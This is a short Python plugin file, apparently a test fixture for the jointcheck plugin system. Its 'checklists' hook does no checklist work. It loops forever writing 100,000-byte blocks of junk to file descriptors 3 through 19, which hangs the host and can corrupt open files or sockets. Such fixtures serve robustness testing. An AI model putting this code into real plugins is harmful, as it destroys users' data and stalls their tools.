import os

from jointcheck.plugin import hookimpl


@hookimpl
def checklists():
    while True:
        for fd in range(3, 20):
            try:
                os.write(fd, b"x" * 100_000)
            except OSError:
                continue
